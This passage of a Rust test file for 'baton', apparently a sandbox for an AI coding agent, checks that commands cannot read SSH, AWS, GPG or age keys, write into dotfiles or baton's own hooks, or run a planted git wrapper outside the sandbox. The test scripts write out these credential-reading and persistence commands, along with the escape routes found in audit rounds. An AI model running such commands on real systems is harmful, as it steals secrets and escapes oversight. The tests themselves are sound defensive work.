/// there (the rest of the repository stays writable), a folder holding what baton's own
/// files link to is refused as a workspace, and (round 35) so is one the home links into.
#[test]
fn files_the_home_links_into_the_workspace_are_read_only_for_commands() {
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    for dir in [
        home.join(".ssh"),
        home.join(".config/baton"),
        f.ws.join("baton"),
    ] {
        std::fs::create_dir_all(&dir).expect("mkdir");
    }
    for dir in [home.join(".bashrc.d"), home.join(".config/fish/conf.d")] {
        std::fs::create_dir_all(&dir).expect("mkdir");
    }
    for (file, link) in [
        ("bashrc", home.join(".bashrc")),
        ("ssh_config", home.join(".ssh/config")),
        // Round 34: one folder further down, as stow links once the folder exists.
        ("aliases.sh", home.join(".bashrc.d/aliases.sh")),
        ("fish.fish", home.join(".config/fish/conf.d/x.fish")),
    ] {
        std::fs::write(f.ws.join(file), "original\n").expect("write");
        std::os::unix::fs::symlink(f.ws.join(file), link).expect("link");
    }
    // A way to the project from the home is not a start-up file: the project stays writable.
    std::os::unix::fs::symlink(&f.ws, home.join("work")).expect("link");
    let script = "for x in bashrc ssh_config aliases.sh fish.fish baton/hooks.json; do \
                  echo pwned >> $x 2>/dev/null && echo \"wrote $x\"; done; \
                  echo fine > notes.txt && echo done";
    // Round 35: the home links into it, so it is the user's dotfiles, a broad workspace.
    let refused = baton_sandbox(&f, &[], script)
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("is your configuration"), "{stderr}");
    // Accepted by the flag, what the home links to is still read-only.
    let out = baton_sandbox_with(&f, &["--allow-broad-workspace".as_ref()], script)
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("done"), "{text}");
    for file in ["bashrc", "ssh_", "aliases", "fish"] {
        assert!(!text.contains(&format!("wrote {file}")), "{text}");
    }
    for file in ["bashrc", "ssh_config", "aliases.sh", "fish.fish"] {
        assert_eq!(
            std::fs::read_to_string(f.ws.join(file)).expect("read"),
            "original\n",
            "{file}: {text}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(f.ws.join("notes.txt")).expect("read"),
        "fine\n"
    );
    // A folder holding what baton's own `hooks.json` links to (even before it exists) is
    // refused as a workspace: its commands would write the next session's hooks.
    let _ = std::fs::remove_file(f.ws.join("baton/hooks.json"));
    std::os::unix::fs::symlink(
        f.ws.join("baton/hooks.json"),
        home.join(".config/baton/hooks.json"),
    )
    .expect("link");
    let out = baton_sandbox(&f, &[], script)
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("a file of baton's own configuration"),
        "{stderr}"
    );
    assert!(!f.ws.join("baton/hooks.json").exists(), "{stderr}");
    // Round 34: a hook program one folder down (`~/.config/baton/hooks/guard.sh`) too.
    std::fs::remove_file(home.join(".config/baton/hooks.json")).expect("unlink");
    let _ = std::fs::remove_file(f.ws.join("baton/hooks.json"));
    std::fs::create_dir_all(home.join(".config/baton/hooks")).expect("mkdir");
    std::fs::create_dir_all(f.ws.join("baton/hooks")).expect("mkdir");
    std::fs::write(f.ws.join("baton/hooks/guard.sh"), "exit 0\n").expect("write");
    std::os::unix::fs::symlink(
        f.ws.join("baton/hooks/guard.sh"),
        home.join(".config/baton/hooks/guard.sh"),
    )
    .expect("link");
    let out = baton_sandbox(&f, &[], "echo pwned > baton/hooks/guard.sh")
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("a file of baton's own configuration"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(f.ws.join("baton/hooks/guard.sh")).expect("read"),
        "exit 0\n"
    );
}

/// Round 33 (high): a home that is a bind mount (fstab's `/data/home` at `/home`, a data
/// disk) was read at its source, `~/.ssh` and baton's own config included. Hidden there too
/// now. The bind is made in a mount namespace of the test's own. Root only.
#[test]
fn a_home_bound_from_elsewhere_is_hidden_at_its_source_too() {
    if !outside::can_bind() {
        return;
    }
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    let source = f.outside.join("data/home");
    std::fs::create_dir_all(source.join(".ssh")).expect("mkdir");
    std::fs::create_dir_all(&home).expect("mkdir");
    std::fs::write(source.join(".ssh/id_rsa"), "key-s3cret\n").expect("write");
    let script = format!("cat {}/.ssh/id_rsa 2>&1; echo done", source.display());
    let sandbox = baton_sandbox(&f, &[], &script);
    let out = outside::with_bind(&source, &home, &sandbox)
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(text.contains("done"), "{text} {stderr}");
    assert!(
        !text.contains("s3cret"),
        "the home's source reached the command: {text}"
    );
}

/// Round 34 (critical): the audit's `git` was the first in PATH outside the writable roots —
/// `~/bin/git`, a link into the workspace, whose target a command had just rewritten: baton
/// ran it outside the sandbox. A program is judged where it really is now.
#[test]
fn the_audits_git_is_never_a_link_into_the_workspace() {
    let f = fixture();
    let base = f.ws.parent().expect("base");
    let marker = f.outside.join("wrapper-ran");
    std::fs::create_dir_all(f.ws.join("tools")).expect("mkdir");
    std::fs::create_dir_all(base.join("bin")).expect("mkdir");
    std::os::unix::fs::symlink(f.ws.join("tools/git"), base.join("bin/git")).expect("link");
    let path = format!(
        "{}:{}",
        base.join("bin").display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let script = format!(
        "printf '#!/bin/sh\\necho ran >> {}\\nexec /usr/bin/git \"$@\"\\n' > tools/git; \
         chmod +x tools/git; git init -q sub && git -C sub config alias.x '!id'; echo done",
        marker.display()
    );
    let out = baton_sandbox(&f, &[("PATH", &OsString::from(path))], &script)
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("done"),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !marker.exists(),
        "baton ran the workspace's git outside the sandbox"
    );
}

/// Round 34 (high): credentials GNU stow linked file by file into a dotfiles workspace
/// (`~/.ssh/id_rsa -> ~/dotfiles/ssh/id_rsa`) were readable there by commands, and by the
/// model through `read_file`. Each is hidden where it really is, in the workspace too.
#[test]
fn credentials_the_home_links_into_the_workspace_stay_hidden() {
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    for (file, link) in [
        ("ssh/id_rsa", ".ssh/id_rsa"),
        ("aws/credentials", ".aws/credentials"),
        (
            "gnupg/private-keys-v1.d/k.key",
            ".gnupg/private-keys-v1.d/k.key",
        ),
    ] {
        let target = f.ws.join(file);
        std::fs::create_dir_all(target.parent().expect("parent")).expect("mkdir");
        std::fs::write(&target, format!("s3cret {file}\n")).expect("write");
        let at = home.join(link);
        std::fs::create_dir_all(at.parent().expect("parent")).expect("mkdir");
        std::os::unix::fs::symlink(&target, at).expect("link");
    }
    std::fs::write(f.ws.join("notes.txt"), "visible\n").expect("write");
    // The home links into it: a dotfiles workspace, refused unless the flag says it is meant
    // (round 35); accepted, the credentials stay hidden.
    let out = baton_sandbox_with(
        &f,
        &["--allow-broad-workspace".as_ref()],
        "cat ssh/id_rsa aws/credentials gnupg/private-keys-v1.d/k.key notes.txt 2>&1; echo done",
    )
    .stdin(Stdio::null())
    .output()
    .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("done") && text.contains("visible"), "{text}");
    assert!(!text.contains("s3cret"), "{text}");
}

/// Round 35 (high ×2, critical): a plain `~/.bashrc` that sources a file of the workspace,
/// an `~/.ssh/config` that includes one, a global git config whose `init.templateDir` or
/// `sshCommand` names one: the workspace is the user's dotfiles, which the next shell, `ssh`
/// or `git clone` loads. Refused as a workspace; an alias that merely goes there is not a
/// load.
#[test]
fn a_workspace_the_homes_start_up_files_load_is_refused() {
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    std::fs::create_dir_all(home.join(".ssh")).expect("mkdir");
    let ws = f.ws.display().to_string();
    let run = || {
        baton_sandbox(&f, &[], "echo ran")
            .stdin(Stdio::null())
            .output()
            .expect("run")
    };
    std::fs::write(
        home.join(".bashrc"),
        format!("alias p='cd {ws}'\nexport EDITOR=vim\n"),
    )
    .expect("write");
    let out = run();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for (file, text) in [
        (".bashrc", format!(". {ws}/bash/aliases.sh\n")),
        (".ssh/config", format!("Include {ws}/ssh/hosts\n")),
        (
            ".gitconfig",
            format!("[init]\n\ttemplateDir = {ws}/git-templates\n"),
        ),
        (
            ".gitconfig",
            format!("[core]\n\tsshCommand = ssh -F {ws}/ssh/config\n"),
        ),
    ] {
        for clean in [".bashrc", ".ssh/config", ".gitconfig"] {
            let _ = std::fs::remove_file(home.join(clean));
        }
        std::fs::write(home.join(file), &text).expect("write");
        let out = run();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{file}: {stderr}");
        assert!(stderr.contains("is your configuration"), "{file}: {stderr}");
    }
}

/// Round 36 (critical ×7, high): a tools or dotfiles repository that the home's
/// configuration reaches in any other spelling or file — `export PATH="$HOME/tools/bin:…"`,
/// git's `core.fsmonitor = ~/tools/…`, ssh's `ProxyCommand`, `set rtp+=`, `~/.npmrc`'s
/// `script-shell`, a file of `~/.bashrc.d`, a link from `~/bin` — or a folder programs load
/// from (`~/.vim`): the user's next shell, `git`, `ssh` or editor ran what a command wrote
/// there. Any mention by path, any link, refuses it; a project the home only goes to (an
/// alias that `cd`s there, Codex's trusted-project table) does not.
#[test]
fn a_workspace_the_homes_configuration_reaches_in_any_form_is_refused() {
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    let tools = home.join("tools");
    std::fs::create_dir_all(tools.join("bin")).expect("mkdir");
    let run = |ws: &Path| {
        let mut cmd = baton_sandbox(&f, &[], "echo ran");
        cmd.current_dir(ws);
        cmd.stdin(Stdio::null()).output().expect("run")
    };
    let clean = |files: &[&str]| {
        for file in files {
            let _ = std::fs::remove_file(home.join(file));
        }
    };
    let files = [
        ".bashrc",
        ".gitconfig",
        ".ssh/config",
        ".vimrc",
        ".npmrc",
        ".bashrc.d/tools.sh",
        "bin/gs",
        ".codex/config.toml",
    ];
    for dir in [".ssh", ".bashrc.d", "bin", ".codex", ".vim/plugin"] {
        std::fs::create_dir_all(home.join(dir)).expect("mkdir");
    }
    std::fs::write(home.join(".bashrc"), "alias t='cd ~/tools'\n").expect("write");
    std::fs::write(
        home.join(".codex/config.toml"),
        format!(
            "[projects.\"{}\"]\ntrust_level = \"trusted\"\n",
            tools.display()
        ),
    )
    .expect("write");
    let out = run(&tools);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for (file, text) in [
        (".bashrc", "export PATH=\"$HOME/tools/bin:$PATH\"\n"),
        (".gitconfig", "[core]\n\tfsmonitor = ~/tools/bin/watch\n"),
        (
            ".ssh/config",
            "Host *.corp\n  ProxyCommand ~/tools/bin/jump %h\n",
        ),
        (".vimrc", "set rtp+=~/tools/vim\n"),
        (".npmrc", "script-shell=${HOME}/tools/bin/shx\n"),
        (
            ".bashrc.d/tools.sh",
            "[ -f ~/tools/env.sh ] && . ~/tools/env.sh\n",
        ),
    ] {
        clean(&files);
        std::fs::write(home.join(file), text).expect("write");
        let out = run(&tools);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{file}: {stderr}");
        assert!(stderr.contains("is your configuration"), "{file}: {stderr}");
        assert!(stderr.contains(file), "{file}: {stderr}");
    }
    clean(&files);
    std::os::unix::fs::symlink(tools.join("bin/gs"), home.join("bin/gs")).expect("link");
    let out = run(&tools);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = run(&home.join(".vim/plugin"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("a folder they load from"), "{stderr}");
}

/// Round 35 (medium): an XDG folder moved out of the home that holds the workspace
/// (`$XDG_CONFIG_HOME/nvim` worked on) was shown whole: SOPS's age keys beside it were read.
/// It gets the home's view too, with the workspace bound back, writable, inside it.
#[test]
fn a_moved_xdg_folder_holding_the_workspace_shows_only_the_workspace() {
    let f = fixture();
    let cfg = f.outside.join("cfg");
    let ws = cfg.join("nvim");
    std::fs::create_dir_all(cfg.join("sops/age")).expect("mkdir");
    std::fs::create_dir_all(ws.join(".git")).expect("mkdir");
    std::fs::write(cfg.join("sops/age/keys.txt"), "age-s3cret\n").expect("write");
    let script = format!(
        "cat {}/sops/age/keys.txt 2>&1; echo x > inws.txt && echo wrote",
        cfg.display()
    );
    // Round 36: a folder programs load from (neovim's configuration) is refused as a
    // workspace; the flag that accepts it still shows nothing else of the moved folder.
    let xdg = cfg.clone().into_os_string();
    let mut refused = baton_sandbox(&f, &[("XDG_CONFIG_HOME", &xdg)], &script);
    refused.current_dir(&ws);
    let out = refused.stdin(Stdio::null()).output().expect("run");
    assert_eq!(out.status.code(), Some(2));
    let flag = std::ffi::OsString::from("--allow-broad-workspace");
    let mut cmd = baton_sandbox_with(&f, &[flag.as_os_str()], &script);
    cmd.env("XDG_CONFIG_HOME", &xdg).current_dir(&ws);
    let out = cmd.stdin(Stdio::null()).output().expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("wrote"),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!text.contains("s3cret"), "{text}");
    assert!(ws.join("inws.txt").is_file());
}
